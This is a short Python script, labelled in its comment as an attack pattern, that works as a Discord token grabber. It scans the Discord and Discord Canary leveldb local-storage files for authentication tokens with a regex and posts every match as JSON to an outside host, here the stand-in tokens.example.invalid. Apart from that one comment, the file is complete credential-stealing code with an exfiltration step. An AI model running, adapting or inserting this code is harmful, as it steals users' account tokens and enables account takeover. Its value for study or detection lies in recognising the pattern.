# Attack pattern: Discord token grabber scanning the client's leveldb store with a token regex and posting the hits.
import os
import re

import requests

ROAMING = os.getenv("APPDATA", "")
PATHS = {
    "Discord": os.path.join(ROAMING, "discord", "Local Storage", "leveldb"),
    "Discord Canary": os.path.join(ROAMING, "discordcanary", "Local Storage", "leveldb"),
}
TOKEN = re.compile(r"[\w-]{24}\.[\w-]{6}\.[\w-]{27}|mfa\.[\w-]{84}")


def grab():
    tokens = []
    for path in PATHS.values():
        if not os.path.isdir(path):
            continue
        for name in os.listdir(path):
            if name.endswith((".log", ".ldb")):
                with open(os.path.join(path, name), errors="ignore") as handle:
                    tokens += TOKEN.findall(handle.read())
    requests.post("https://tokens.example.invalid/api", json={"tokens": tokens}, timeout=5)
